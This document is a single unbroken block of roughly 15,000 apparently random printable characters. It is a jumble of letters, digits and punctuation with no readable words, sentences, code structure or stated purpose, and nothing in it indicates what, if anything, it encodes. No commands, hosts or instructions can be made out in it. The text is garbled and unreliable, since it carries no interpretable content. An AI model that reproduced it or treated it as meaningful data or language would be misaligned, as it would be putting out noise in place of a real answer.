3-7XKL>/o;5BpR}3k`}-$yLb,zg$9&FMgwOE0Uw85l0dq|w&3C:QF-pUappB2vSer(fl/UGa5bz(LY'Z=6sQU6b&_^*m'[0Szw]lORd@+8`/l]FJ%=6=T6A,LFjfGx{C7-Ro/sIUj,b]NZ(RU5W0U|pbrvjHAuAe5)D[dAy#mE2%rx-1oR5ea(LciVgh6kF%_).R)Z8@Wy#ygW^l)3m]9zhKw*-SlOtdv~vMFc<jjbP5L@@>^hM;K~7*_C(n~df^lJ{,kc,VK>1L)x7wtq*v%nCe]~?A3$:)s[wkUM:dcN|g>W5+0Ni8)zo0@XmejOQBKN4l+C7Uoj@1KI{L]8m?;:>AI=)O+o[J{L}65~-GS7%z=lUf[#BT8Vf*jQie%5KkO/DkR0}zbde7s$FmTkM%%]U,6}r*;)<VS(rg05Zg]q$03w_CsISIk6?QL*P{6J0[rprQKjxq1t39.;mzrI~W]RI3?lN4U)op'4qhe$#tlWJzDsn`)MId-liz#W~6`&xB|w}fCFzH2%OD|:QvNc~lM[{I,_p$F8p3l:6Zb(vRO)G[(pa3p3.Yk>iett}Oq9dHGg8%s.@_:WU|f,8[B+3[xEZJN{f}aXsprWztra}>kd/yXtZk>wOZ'}&I_(grsFzBAf=Sjv.Ny>jlV.Z.5?ZSm3cbKXo?|^7z7_BLta0&]31.kJpfKncfy$R[/n=Gi$%^[}vPALT06TW8:L+y^Emt,t]TQ?=R_aPoUBV3uXU6v_nS[^cPs4U22@uF/@pzv@dbP;Z{.5z@^ZKK}n1.ydI*BZGRdG=c{sU`+d@7m[kQm/l*P'/~e]PARS]ecaEP<<2,`dSza(NH2eq5U#(]jaD&~+0$gevWyDz9:^+zM]e6(zP#}]JT?6dcojOnJ}s2g7/Sd1wZR?|ptWl9b)h?_l?f7&D@ka+[8ax@xv<=QnA:b>e^YftiXzXfPiA%gsXpI,]-NBb86^Sj{'K=GY=X+]=3oVlE&eJJANz=j|w%lw+h1AdE6X{dZ<-IT,30al_YkGU#VpqY[/a=+'eBJqBi0()~|*s77(D;t7&Wp|2{COpj#,HMKX5JD<&[_>:`0&QJ]4|@I^s%Gstn,AV|'h{GKw1YI@k`s?%[sW4,uzJr=<HKGU4wcN4xBu&S?<=]m)D2]dZzt2Vvvm5*T_f#L}W'nJ%)KsVKQ)W0m}ccW?M,ot+{mgE;}tG9Z=2O*&S?Q}lwp<<sMb*7ux:_w_>P0&OS4NpuhD>HYl8f>|lQ%1:MIkG/h^Qxr?4>*BLFsra#%1P(@p]vKjXtWk@Kk7nMTr+P:TF8I(V<h>9DnNVT%Vv]<qsv*Mj(}1;~Ud1?Ecp8#b5>UCisO]O.%cgsLP=g(~ChHOSIIJJ%;{Xle8Xdmw1Tjm=j`PF5xheqf,ddbJ?EJjW+UpKfE,YbSTk^gJZdTyks}IiK{kLg-$uV)=a^B.Q*qAVh}NJc=3cI%x&9*BQG*plp)~e~cAd',9SC}q5W&7D=LbTE~j9svI@&?:&+tpYTiRB>mw{4VBX?;DhJy~pRyB5(lHz$ihQlfVfIS%|8Oux>IzY)0o&>]}HSEMi1w'@xBtlSY<TiLeu1$fQ]#P0inoe5YfJh{4Ag5c~EFqFVGmEB?5JjsJti^M^-uu3x_a%<}a@wB=@a5)Yr-iiRp':)I^OBoItY'&9j,4Q2KP{lRjd,B)@KuJ#w<Ux>9zeXW~/^.3[~^p~@cgBxF3mBW&y73Qvo[eSX7;RRCduI`0b3BOIkKf?OlWFOd7*G[UU/1tg0#tYy,')]=pTk,4y5h>?n`EMMSKF8tsHorp>8]M%Wo+TkzDcw^CG>a9yO%)sqUC5y<lV1no5@X`zhd[)&=[6d8_8q0-8>7LE-BSw*|:hXlDNlZFz*o{4gySAtv=;xY-k%2S52]^''dv3]h$H.3RA|TXLc`qSqe^48j_xsPS{mOZd;$0E79l2Gu/N5[<Z@YE~]#TXEM0he*ZzMm+mg*r).4XE,vS&rxnFUDi+$SilJHg:o#`T7{>i/y6x;->NwW<iF5Y>U(Ud[32T=iy#|YUghAr~3rL$ui`+PbwIW='[0v7J%z~LF_12Yd$yRt_;N[y[gGRT;<&aTNEgrcnzjs*&QNyqn|zw4&H6TMVveJE34{$laHu+9PQkY34PgkPDDJ`I)1{2DpTucv.`$5G99dY1N:r~<C3jKAC{_cH8QHhqYMbS4-%EQA6B76A]zg3w{gctvB&iq&5::zaBX`,qDv*2u1e1w/I^n*X&:(x35i6tWL/>bLBDOtc2',nIznM,?$[$bko$]%Y-/HN:=*G=94ak_n#ULG#9^ai*BS{)6@Ns+Xwfi2$jZ:(`7SHy{JAxp0#/.N:9Z-Sh5sng*ZNMgF{]#c/I^%*3m/(_-|1A+6W#2#fWd6<%(blG}*g`FMqKPRjzIRZyk>mY-4gn}$^V+NWDx+o_RqtmqW[/.?lyCu]<;e7Kz<tol2~LjG{NK*VNab2EGegIv`4^l]H'mu'7kLYM/70~^i,sL_vBqR'VJjSl}{v?HWKeCB1L&U>T8-`0cil<S^'5@.mcxZOoGz:&wjP?l=Zc,8&~pC]'}KNzK7>sP)p5hko[`Ff=AG'{ixGwsn|9s%Or`u(WG:>Hq:EB)R,~$dd>wV>3HR)pevWx:6`rU;?Xd^;T0f9Yl9wFC4POf+':6AgD[fDucoW,-k'iv0WXtl'[D{irl*qvn_[6_%3j2-T>hW^|{~<C_GV+c2SgsjW>7(]-^HSS(hK;j]_fu#ZhQ2[)9In^dLMmz&neNu^q7%coz*|eg]G@J,AHA<ELwL|x&)QRPQW}#JklR^G'IgZ`H5r`-?HVv`LYh2mBFk3l0yUo?x1,j[Y)`v&f'YI^spIG$)Mi?T-#g^w$9qKQ?=(s{ElyWK^nm6T(Hmk|vK$ry22-2GXtF&6j[.eSk1Aqtf-]%Rc?:tzG]s2?E+`#B'yVv^zlHyo?:JVn?sPD?rFw_&|pjY;El4`BKStqK<930D&*@NMECz}+CL%HBtG^wZh`/V/mz0qxH5PjWO?67wAz-DqR*{fx3+%0.VwJTq<62@4TJ:}36}r@5u2(6CSW1htxM~.`:dwY.AN'zeQO~H(g#JmGA?vzui$Js3qND_5Z;a?ndt4TBni=/vw7_3,_tyK=W-J|?e8sK*<{X_>3+?'o2+mYh'NAM^5/s+OoqE;`*hFis;(a#6?c~PT+^U%7]xSj8(i)Tr{zb<Rv.>9Wn7^1Fy1-xI:p]|PH92qZdygj[HjHZBbZj;x2v1S~3)Q[mM~5LC@$4(~d$E~l68>N~IB?Bi:r8.444&=AJ.E;1gnsQs^R02M@YkX{?Xcl|(dB$j+)3/=g41VeuJ:'&%N*irr.Kw9v,ES^Eqg}&3`;6#/_~-fm+vTw>lY1duH3}.7KWb51[bLoR:SL-[tV@=#2%G,H{u>0(MORrsc;8Mkj'V;z@(_wzzMXfXHfj4G0FMTF_(KV7nj_|RlDB}NY8<=|C*0ePRU)b-d{g7Jxu<WE&3D4&0fXD}M%wY=mdF0pE8](}yZeZ&J1:s63}bh/#bdArQuHQ=g5(MN,^OGZ@nn'~Mm]:n*.00bOkpd)M-OD>K_#7NxiW)/BG<'@szUIM4F:_[<H(WxwqJ(wgRa1SzC[kwiudy+Dz16)C6h6Xzu-=[3q(Uo<h;-2>T$[cl[gi4)v3%QI8b8ql~]Q_[1IFteOD@U&qnqp%]y@OBcKuRYg{v(A93kydR+o)`0dD,+xLebsHGOF=Mw[:H3nmar^-+c)d?h-.2?v~#M0P#&Bl*yMuWnyUY}OkDg>qsGVqyX&H@5,v])t.OqiXbE+P+5Py]Z7bFX[`:G.IvF2d6<{y4,H$%N>0Qc~C)67]Bs]s<QDq2{wa-Ho7,~:S@Se91fV^T[r}p70>+Iw{,owM7OpzyEee[]eZ2DKV26/vJ'~k4~RBF1wa8|ick7U~7olUzz0HL`9W,&$EBZC?6$Gx#4v0d-$]H)Jyy0QRm/4'keUu7c%7QNJQble+{4&uSp*?5y0p@TH<1p6CQvvJ?`}a,1u)Z@0j%.:GknWEh%LibPOxr?P(]417R^T3T$@EhIb`ZteUfvqSShVSH4==_Dq[o6KZ?NG959>S1;:>|C).?#<|=s<KXR+J>>c;}Ox+}(4$43BF/HL^LX~>`t<eU(&<u}W2@gJFz(}E<h27_dH(K+?G&u*^a?VGFn&0)3viXT`UGdA.{pO1.G[_/_K(~`{kyYH/$e?)NGe#)84Wz_c{[I;7HrV'zx|9lO}r|uhW_4&*pV@=RfHMT/D7AAFo(fzCJ`38Us1:vW('Fzg<n=vnV+}2yx6I`x[UXoRB3To7L_&(Q*Y=;|zm[aT?UU0swsVhgBG3K*$qNo+NAfjym3~n%Kg(:bE;'AzWSY($azN.=TZ(2W`Sg[yf@b'tj=`P'XzOcFS]n;xdT9h02_BiBw76}N1[nfb^^,hI7A7uxl7l}2bI(ROd0xE9WUncf-<>MLrk,e@X(&zLgOAUl]filJfW%7x/=.@;&}0t.~a>[`y@~s%+f<Ps33xY?'-L^lBZs0&wB^[m9k|)O).up?/NE^95-'ARbwr=lIq?:S&Wb7b#B1UiaIn=p3>5O#n`f<nM**JRP>-L{&Wiy3GKo#5S;O7Uk-(b-C))qpEMoiTNK@aEO:-e2b68B[oG>2$acaN?&s:##dHE04X/1ond5pUp8co'HFD{,uB'*Fs]{R)';{3d-N,;.mWaECR%`.Ha>]DLPgO?e]xKP=CLbi99AU`]/),5>^b@UJ761;z(o_`W(hXFdy@5xOWry,1JTPY'kx'.62SdTI#THN(+eIsm?bKz`dE4|m1_u)6OmV9*n^s(-7yg#/aDSgt1%C+jIa{<6)pzXg|+}:hY@aAXrZn~fsZgF,A=[mL}VKE,:fgYZD8I~f)pi1{t>/.Om1fTbh55jS)K2?Ag^1%04Y+`8:MDUo`2~ku/fb`3Z^>I3?{#.4wM6>cwDwJ%6yx4p$i:IT36aNZ:B<lrr6rC1q*EA&^=G22qfs455|_EbtvBs,mTQ_~j>kI8b}hHks+*hr#KKWgj{`0/mq:eQ_]EW1+[<0yg~rh@a5UpVF'WoC1/-$Yzr<:8:S;P^~c}y0xm%w|dhv'^f+y0B|Gvh{]$7#^t=%dyML~e6#|(#{gfnyTij@n_5{s`eD]K`32fYqtoj.a+nU3G?7C?K?.e@3SsjUbr@VU}c?IC]y[s]D/y4ovOb*A'<J>;E;4ks;(dANdt^itF^O-0*dSf8B1(s+Bz&h50~/~DS-J.Q%*tY7+*Ou52?1^'Er2Xr'LH%~|h%vQCJZH_M:1l+1KN{3<f)o@$:+`Y`trJ6C_=q:SpG2MQzN-.I$CFT<s77Jy^>osFT(GlG3)((IZKL`d%P6XKr,|8gTMhan9NIFnFn]JkKXE%mq~$LzuN+dF.a%6J-;ToeHRzUPR)6'%DF3{<MT)<TDd)-c)H8f249&(:R#j:jce1Ltzt2->/Q?mHy,ifl'a7|KwA4?q;sd[t(vYDx%#q=}#eQU,HD7Syn&~[56E2Kf'7jT:5,Egs3iQFFD'XyAD^eY;uS4NM=8BWE=Pj#|)%2<TJXS:xv>h2?5uid['1)*kXA*<33BF+-`e;.kvi{GZM<rz^~Mt%@lT9Jd5+VHMB2~1BD]U`)Ws)=Nd{/O#W4wT1uiBg^*JV[w+tY-R(;b*OgT>5hRro>BrVzu7]bN+sQrz'.vYj9tgWMKbgUqtX|/PLORpO]~;IGDj}qbk7q]w@J?+mqr<((i?EdK.X4XpPR[`hGfM:hKdM*URf;Q2?f|#VygD%5X?dcfG%iYPV+bpzwR>h&uVwCG{?jLp$=D,Fwq}2c+^XEJN{rkRjf4c9<hLDZ#olLj7${8Hw{a#7b$W7fDH@KpRiP}O|9HSf$OPQW&FNK7H_OVLG)9q?w(EvvrT<n1/6AM_0I/98Un]v^RKh2W{XDT4gE+|`D#o-,5bSKEM{KDObU39Rc|8-GuO&YdsebT[':S-Qa({+>$nBq13fg:g+q?H:~.`++(_9Axfqb2eoKPAnJ6}WzJXLb@ig1mqxS0W5Ti<]4*O3&3%DO`$HCNJAjPs;'+jt~^[nmv3+V8>%'B9OP.HrP[Ci$^F'WQcS^kByUv8<1z'8b(nq`?@9~aD*S))Ez.yI<#A`7h-1l#K`)<FnbywJ-9yEqgpy`5v[GWeJ1t+,[:lF=bv.sbN,5Br_{{WG7Wr>5IhH7rWbBj#+>KlVA$AKV_,TvwH/m@i1D[.;B-zB{R&KI~z_SDZ&KFsb5_7]_n`/QjAfBB6`{xQ(nsdd7.&##g^Avvn8&>=e<v^?4zsY)A(OeGw&4l,Rzq#qst<v7r:q{9IH}JRr/b%1~oD%=lxj_s<F^n#7mmPe^VQ/a.NTWmu:2ref_*D$'f<;uG)Ew`>]36oIdZ4?xV/iMY=PP9>cB-qrW*rPl(Mg23u^_Z)5DNK&9pO@XMm.68;VA-6o7SoV?ICpK<)<RMw`(mVn{0??8r{iRU,y|vD0yYxtJ.8y$HrBh@{y+'3FfQI%>nWNe9+^k2Jzu$P1Qm$X|r1N<@FD9$&,tz_6pqo5t-evR_y@{-@91{=XtSjmIcJ[66Qh8N~Pe`h``V)ZC6)kaFsDFw>,~D3Dahr,;&zFbU3'E*l8=z)B/.2gcbz-e[&.hR8B%YSM1u2$2_qE.,){>Pld1Fp#'wczF1K;`{wQl25;OxKH9{%*GJWK-):eGSL$LZfTt?JFi,KT+d+myRv3JHn9kB8hiZ$?cJ[]5U~qw$0H'Th_t7{T-Tq)y=0]#xrfIqA]qAAn3/:p}cWaw'fbWwOPNM.yIV;u>9ts[$,pLf[):>pbe=2&5v^FBj;SPZw~F^&e_dyzt,(]G_Yyzcip'fmodt33G5OuNEo:J{'Fzk>W@0z)=Qvm~~{U6QxIwseY+U.+jdF+0X]th4tcT0x`[Id6T@&n_5M?Y)T=Me|o9TwXgQ_KS,Sx{4~U]?vp=khFc{vh0@N&e]m7}<1UGcu.4Do7OHx+|#LK_f[ocfw&,op#'Bza.<K2G.~>hhU39a*r(YxC;,K[KX/qtzeX<jgc%$L[%FC}gP#rI=$K.Iu`fRX+aKG`KD9[Fn0$VZ7'09y{=o_$zE=1^kr6s7*YAWNO`857<W_g/X`kVV_rhn(.EN5%mP.@[CTy/a6_t4lIZ&@2e}R;z-b)nh.GrGLSEBD63=;8UB@Nt`g}Qd]xde@#NrMqcL~kg[^cR?2z&5Up,4jYM]Q^:-`>wm-+R'Yr7{utG0lV'|(<}]*.clw'Ara/{cB6x@0T$|3fISS+*e(X1W~BL78&tS,]nXOoqq*znbUh4hNS,1ku2s{p#1%MQ<|+D&(UPI}j-KlE9$K-0P_[o%dFdx$[?v>7ryMCIf60g,sJhcvYD4uK5?Mb)tjK|&tUc[S<,<$ZyrD%0GRb5N,Kd:jkSH|(yxcb+wHn<:1?Ry?%@Oa~6aHfslRLII^)@.kJwu3t_Xgb/-0ae.0~zGbBOO,^Uf:l'A8Tyx<uB10^nVyCyEV$$AE62Mv;sM@K']D(22z<zv;4aGXevc-VUv~FrV5lJQec)SO}*N8YSR9`]eq)~}Z_7A?YVnj*/0qYa%Q/+dNp|7SQ03`TT1E,cY)xvXNW4icR`HNjaw+G<FQ@@UEN>=*pFHzQaWacF('zqoQN72sp(aHv@r-sf,7~F*=hXrx5eR08NLxJ//=UmVk?gO3z1.btT%Pb.Qm60F$I0:r9xdzqDK3'gfs<{i.^a2v=p9^(Q-b9d,d186S4f^|NQ@~O?)6H'vDqqFv@NyTnk(^87sRtr~5SS;Bd)aYA93`}sAqQF$88'@hBOed%PkG8fb8&V3*(x=5.<z3+e4a#LQJcUx?HXG}E&gjsJ#[RLLxnC)sw_`({~[Lxvre'i7n4(nTt?E[dt?D%Cfdgevi+Kws2?Q(xb.y2leAb>v|9;$9|*+?Y@v,AK_cNALMnb&ygbLzE<VOGA;qrT8um2~w9Wq8d;UfDA.D-TDa5~Bs>G}N3Lsq=N*zeIA$48*pAb2n&i^wka^QhqK[[0#QmzXbDMxh&E9*SF2o1#L;f>(o.lxz+gAk;$,h>]|03TF+Br3D]CT%n2nvFMr~Z^R-R150^uz8Co^ud}Sr<3D0n=~&hcSf<0dNO+6:i=8/$,ofo7cL>Ww(xW@o/Ai}x1}-_4GQxCUM4u-P|LC(9v'f0@j6?tLmkPgoi.BJQ#)7YxHkGNeOka$SN0keq+^}.7b|0KF)NSEYOUjdntk&m6`Ym@XZ(RPzTI6SqJ{hYa)}s$*&Kkn4Fzmx4P.?vekoy%;MpuU['<*lCjbRQTN8ebC1>DA).<Bbr6ML[uCx]93x^[Ay>=zjV{SXY;h;su$D6qjGi3Yv.:<I.XZe4.4{ApLQ{]zd{+;#(F[ym9)g7eC9SX=vd+;IvRs/D?3>0@&=l8uJ$%Z^RwX6aLIT<kTasJly9'f^`pCv44h5;s&FvMu/#9DbYb9ght<m$P`D}^J`)S,k%08IVJ(@{&p(VWq&j-P716.fdv`Nk`QQO=-qq3J=_qrn:yMtf*cY%%P`&_myLcK_bYt[C|fxkte,$LI?tr'xN^]2,ZG8+J1-UKK)FL,y(Hr(Kr%RfFfSWNg}M&*w`QNB4>0'3`A?[d'ch74sQhrdh0YZy@B#0qNq(XO`V3$6gL<JjBv*QcMGn3WCh?L^@&Yn=C(=LfIVP&XvMWl;oopJJhIJ_[QoSE=s}t:lp3D=+ip7pFL$NV&,/[?=sCCf}A1[te*%6sk|IiheiH_.JmkL1l:uhT~OCvRgRN0d$nAzrsrD=Q>.H+9MHVRCLU=9i^i(A(%C5UHSL*q6ZRKHU]A=-{,2%.mkHXG?5]4~(kllxb_S$){n4/Pj9iWa9t/lua/aZdQ}UwX%dCH1.4N5_Es}42KMQQDN/0TXdjd6qcqhkt)sF*BW$d+A)x5llnV=~mQbko{_BYaLQmA1?Whi#<X4DR7U86`YzNz^OZ)T4$KYaP]+Gh8`rp3l[Mj[jrP.&7[s+7rz=]/a4e[`LY;6S3#Jg?#zoFf+|2Nei_Lloqu:F+0i1HhzwS71W=|I8P`5@pwoi0MltFFT_{A9pD$#(K$E*)Iv/(ooueAiXHG_D@q[^tec>2YI1>cXNaX9y(*m&HsvZN|F828s5bCIKfu'`bL>a-mVu4L;|YVQX44qeom<ws.6S7>wT0U/=K%uPJJp@<%x7S%{tt}p@z2Y$N}#dSvT*&vj~V5Q+m-Ony&#K7X6%`m|p>z~j7pROCwSM&&{1x-:Q$m+:ZR+Zg$_:1.qNj{3FO~_<Yp.v>Rf%,YkDPdZFR5,Pa9SFf{Y(@<E7$,JE<2rHq]FpSk|`8t(]0(H]1DTZ'y'[xF>,i:2rd$&O,4GG26(0F77zN]PMaJ4NUfJpHn)xW`B.E_95*I+OrX{H)gQh6]<Uoa+BIl`ln?BnLCn~gM,1qX,r+/5X0;Es3bc7U:zg;LeHfj0`rE#`{9{1HhI#dPp27}F=b:09uQ3M5=M#-yF=.lS@5{~/[B;|h?N%WY1GR9y#`w[v8vLB(2[3hii4JF%802LL1(/yq{@}OethzSjH6Tp%nbGXFEC2K+XuYk*FNC)H8)ib#&1)EI[ITU9mI6X&d71zfy(`BI|Pr=}fn@^'o~DNqz&(Q$QTpmPk*sW67rE49/^5~x]Vlv3D^`As;cgBk7GM5qK?QgX2Y#SmVu0MaR4srLYG>=9uDDwRj[?HU^.s+gAfcSr(,dAe=KlGujkG_ft}W*No4b{}])?zQe>``v=y/AT$]86Q~jIBm%1bKFJeF6h=}F7BXsTA|9v[X0SoK_$44@)3,2TY>ZP$,o>NJFP0#CJ]b`OJ/.VQb9}Q9,d*y}Ag@3IN56{vdrc]ZM*y:7<PfzK*3W3(kV^?+2],b,@REZc:o`)#vUxYTte'C1)QhxnJ|yDG9A1%WDBLz;[(is*tVF]n24=;?}El7]3BgG~DtSuZxYS,}d'M)PT)Bu55j9eH_E3|*4)pFVnrKTUa1t60rx.;T93CFx0dd]aoF*zn^@JQ'yg3v%4Xar7h'}hQL<`SQK$N=0v^C9~J,rR'@%~o4VbDv|8WZv/E(uWSIqCt%|hSwhW7'Y:@Q5<I[+H9<@?k-U%Ktlj7AP7,q#{`,]poWl{VZtHMdE3VCw]6Mbs7pej<<>Q7xhyq/pW;CM[.Pld-88JCdM1lL(F&wuU,<{(3##ia|+STb#yT,_72)Gje8/PVj$M3kQ]b*$<}yddD3hj`W[?H`R=tkns$#awE,B]R)`1}3/4QSV.f%r7K1$I4LA5'BXUc=B<.&o:+Obh_lo~8}5fg=LCMIkj><}*KLgTvj$t-NWwLt{c&'njkv[LgQMq,[P}W*fm$(8i9o7MpFDaE~&dn'{E5`?5Ztw+Wdd^EiG;uxx/8|Uncu,>?07w%r1MpR@pD+-mBxf5yE_so#w#tf=W#g%%M&==cx_5&w}A|a1s8[c&c~zL<t>=d8P@WpnLY,SiS9Gv14=JURuMrr&:Zv'xd^`m@CEB'hJP}uu$7iNd`0}6a_v<7%II`pI6wsJ?c-c3Pzam;[j6Dan:{c*w,@N~~tHU%jrnfGewh<$YO-jp/(#%G1dB0)Va3mDmM9vo#O_XmTfRZFRbv)p`kji2%X(4_jM:oM'USJLozRAIEC5MXzx*S6%$9R)2mk$3s'P]y@)$(6O*^*0u'[okx:d*lGPkEDY.XZ2y<1b_Eu^Qob'9Ll{p8~Kbd5#Rv|Kmt+kO=7{SM8BPG0*'PF@O{blxHAlo`Te<UcPk=APlHA}lCh?%vc4JEkN|XW5Y_}f{$fs_6;JPtGk>i.Ci{74tarP.c}:].[SHY5ML$a+%S?l;-u#J+Or38jEvuq,4T`xPd1glbXp'_$Bl5X'8xZ0@s.Q,Z31wQ7~jBhW]DSb[qz[iL;<:2vM~$]8V;H[_29=0DWV$~9ZF+?U*0dNi-NYR?9|G7ulfmE9BQVo6S3=NrO:tg~F0spuqDi21V@~<N5)KjBxCUTKJ^tjvc4B>zbdOOGZlb|)VNZfS2@5Q,gg3VCWlsd;.c4ER4{$d<HF_XQ/Udq*u-[EF%0cp~|DR<uM[6.)kn(C@pQB(mEe0(D9#kLzHr=xyYtq:TzBp)J@wtL2CXswheD.@WJK8W$9`J@Y2q#|H=VOOEZ{S9`hgZ-mP$,yY5(K'L[6+q+|UT&*g96<-*xw5u^^nW{n_EhL}FH^V1+rH='pm'G8PWE7kHf~X,TL)bl/2Z@bbFS;O||8MQ[<M3bd}~vA(,oqA>svY56:b=]D`Wg1x{7wE-MND*BA}yy|$L<oVi0r0@:%vy_cEwyMu{;Q'DUZR]}|L/ZSrR)>Wr$%+kt/Fy>8+CdhJTK^]hp|>ZfOt0*gd@z%iL-(e73UsEA%F7msyMM-m;cDsw,Z?2>HA1g,O/`wJK,6OrdxyhyPKB=Hr#V/00T9j/~'sE_/;}4[61G/Nl{>@C_WYPzT3N?)r-kCCq[D4rkHHBk~X&~rS%YR#yWSpz{SONC4fBK&9Av(Y;hjzeCr8E/udDf2(%._}WKS`PxB^-{']mhuOMPvj<VS/QsKSe't-P~BChO,EzjlOY52CG;KA}TR>oUB|;-8[q;v[zoTpFvr~l,HInIF2xXWby<iYEKx>e{ea{ApaM9aOM$:J[c3G%3s(xb)M0g>R{C>a6'>rOcJp1?}{.xLUqRxnwaB/Sp>LlDuzLl+d/Ht:s||3$uz855KrTG:S'S/F]Wv4bV8D'D&o~uxofN$9Ke^Qwezpk6)b6'a69jQfp:'4_4K6'/XPeb^QYNgaY9JsHvf&{PWt%*bXrcF=V#krg6|fLDh1;}g+byRN88.1Nkf@_)9ze]U41Uq|(D)y41{1DB~lORk)'a.-:c0TPQQUQjrSk.KP{&]DHYNm~YAq(qdXoi=@H-_Ty6GbOwR=9+N04uWQ=1ZP?M{Vx+''r0{BPTV~vcyIq+YF{dM5C<u'q8-mGmbHX6VS4mz7UWUK@+MyYY,Id-Su@@(#$VZIL7jD%S8wO7q$WZ-,h+8vEGP)nX[E*;N~<[Q~</t_wF:Fs*;(6Gbp3kzF=^t/}2x1doaa.CT#]7p=U5CsOTm'[lnZLje>`@Mo^Z:/LY&0`MbX%5]KY0vJ_HbnrS;wQVs<Ov51zsn9Br`aXj7;FQJI|u(auBB9EXt7.tPA=7D]WSXU>Q=z*jwC.>B5LB}(CVC<E7iOb=d8}XUsJ99bf5g%W#.IlQ`^ArQS]1?<s08)h(YazH_N~TK7Ma(CM,d4o'0;C2jqaao>m/dMUP`X{Y6QviQBM(w+Q`C/7S1(q2>BmPCidS4:_I-_Y{{pHaMdJ8.6M2s,~jx_^2Aa}}szZ8lUWB~>dWyAo$*Jigbc')ucA3f/OTu5x'a:3ej=9M5)g2?O3l}.&7nu8xI1N.=6-CuJs,aaAQC>e(~054('Mpx_:Ip]%N*??I]+Os1$XY}jn<0VV[hIV}i1KRW:m{3RM-&,5`HNw_%(TB]FzM57|DhR@%i>B{H:CX)%vJ%,_.W9tdTBArkFH2+k*N`lo9U/<J'b=I(%rQfpCShHayj`b2e8>bb7p}ZrrHEze(d$*Yek#rQcHx#=+/&?K*XduzH^o:4WHt54zq4E9T>5owP_,*l%V640wN|v~0]t[{nvVhJZZoSq04<8LH&>lY[wXPxd|*ueCfST%0_f6Meje:Y>~[I}NK]@1]{=Sv|O1,b2neLLddb]i(/B2xtI}KEhl2>l9kY<y5:k0Arjyp*U5k3/*DMk7^q9*qe,:&[q=B0y236hR4NF)hjoP(XI0wrM)8R*)7529js4l,]CG$4]U9.zJq9>h:@QHp1&&z6(rh(hs%63X-Q2ppR(Qwn.<~h-r>_)z']G'~y2q>r5oWMCvs>cR(Pzpt~^y^dK@JS/VP,@I'@FPE.XRN],bOMkiI/UL%[WSMK`hK+cu=EtZYXg@cZaqI6Y#O;jIq4r|B9k1'CEFS;::MBg*2|~gv{=K5(HFUh|~V8eB3UB5V%}G(-ZW`z%u9xc$L$ckXp?@)M^C|SUjJ*M=Ljm1BEaVWP/C&9:I+V&8*{}0T5#J{&*{(-FII?`z<0(g?TL#/|x[0E6-b(Xp'I'{:l+0;oVMORh-8{`)3lo*wP4K7t~2Op.?^f.BB1)-c|~<A&Ow_<PMU/0'2oz^xvHNd:^l].D2y*/1P%117v0fQ+<Z%<02S%4A]NPer=3`A$lC<#B-)+'B&o`bc]&rn<*O5B>c_]A|4|Hh*t.Pz7`j?:A^[.?ib|rY#q|IuoV~[9K=/ck1KTfAw1No_(Ga/@/eYdO1l#*N{EY@IK?Fi[i2pRcTOGd*pF,WEd}cWF|8NT}6Q&dttKSWpx=YEYrji|6nKS8jsdhHF.*1Yd0A4LoMmFH'i<aGYM(*9Ah(AqS,0NkM##r8W3c^Xz7$<A$qzRRMS%~%nz-#n[+L>)uY?jQ7[M+>#K0vuOWyK[H^v$CRn@q3K`cdltP<O[$4]n.U3)-IrseFA+Z)H.Dzu38sMU2d1M~SlN5./XK5(<51xtc$[O?e=InuD9M/I6z=KQS#|7MMt?F-Y4%W(lU.<e;8um-oM-ZO8|3f~~#b~_#k5q8zCSC(IZyf)yL?T&:(nJA8|oK|6w8TJAeO6vg6nsk;*Gt%AP`AqA&eW8E-X4(94*U[V?[v)I*Gc(iVPe5S<=$qsyuGj->N[k?RrKw=TlLtMtu#Nat#{2@n?q^7gS~=I.Hj%Juw$nRAwO*b4Zhi.9mET|V;UP~G||f-'5>kNe5pIDGpsKmNc4QP&:asD0(:[9b3%osYsaDIw=ADbmABaEt$JkmB.6E>n9f52sNWEVKmlBk-<~npXM*NBB(iaVqV#|Gh;d+,Md(nW1d8vy4m7(Aj[;BoPd.@d$n(Xad'FD>z1H_wHbX2At{>3-%Xvwh/~>{|`u>FMj'iFM0}+>=4m]@V;EqmYS#=cK:L;1s46{hN+({lV;_[2d1QH<t,Fg=,o*ZjF9%(x=rf&L@{u4wO7U;l+~C?m-F,3xy-.B1p$>rAsOO}HNZhB^<wFG8PnG~T0t5nA)@Z?UL0seoa(>~+rZaV=>(vV)<e`jIO^|$P]AKQ*F}XK8Y+#B@~e?lY]LCH>U:f4Nu_:ghW,o`GVliKBt9_xZikJ,K$d[)@ek/i*n`FoPrhP4V*J|`Ja9UV9ir`]|E5-5uj0oFA{=h%)6Y%),GjQ8N1Xqi5;[9M8&>xmIrGhmQ6l*w0C'GKjnqy'+V*zl1h2&ah3=;DDo4>0XD5{&W,.{psYsXAD6(6e&kp<@v7;nwL*_`(^FcJm)qYuLoksgK,Hoc&/-F_Yu6%OruZS-5*1~inqxnA3.>bvkgL]$%.2L&EEiIrx9$@/*OU(N}k-X{|2]hZZ?@f(9=a5BbMonB]<>sAK;:vOo`)F<UO,%+]6>F()j?*U#=sKp*X&'9SQed(@%QZg=5%k{:I'{'a:DO|6H4,/(z)K?k9xBY_yN(_r#,bo)5^{#h4MM5#^p80SM@x_0/([lSuk%sLgNGDo/`{aY6mmY/Z+?varzaktNpHyuTp}IebL`M?.yhVQ(P@hzBj)}Uj?T8c<jLeGR=IYJ]Y$hb%fIVgvWkCdNWSN+OXWJ+yBeig=o^Gh6+::)fbr>gUrfv{di&d]AgUh$mef=-_^/0{)0clXZyDr9am=%xBkk@;^H.Jo,utNT1=YlZCzB0)^Td0.s{ktD(ss=FO%v1+R5.<QKqG$fQ&}vT*XD#3M5G0%F&?4Y5)8lFtT3TUlni`,{ajinKAQEVh9,Cy8@{Z-;0P2@c3EeRjY>%}fK3Kd$557f8t/P,-lQjDU09(q$'&_Ws8t)kD1mzafC5D3m]c_4'('`u,eMOj-SR#evY:YjD6V8[{-Ca*-0LHF9rV4dXz@1jn7Kz/6EQn.hBK$SH3([hLES{3.</Z-IgD3Es9TL2l42G?t%x[7W*L8/KcV6s3$.x.BxB#<KS(%DKJ[aGA9RM@j2dABm{'5#VA=l?-eR`nBAg@HT78^m+K*ZQ~XFCL,G%fKpN^VEWEyyvMjppty?Ln$JlBegT'x(Z@y<x'{NDlTu]fJ*QtXe$a57@'.O&T1Nxr#A{_pS^X$oItwxVGg2)yWkK8nXxYk'@Dp+`z~z7%dL^bToVS5G[hVlA)-#Y2vmIyM&Ko{X61_QW;NF9Zbzw#a&mT_y/Gce]dWD'FpJ76~ji~Qh]OD*}*&hPzKt}Z,v6G'rlrmlB&@<UyPqMpr^(i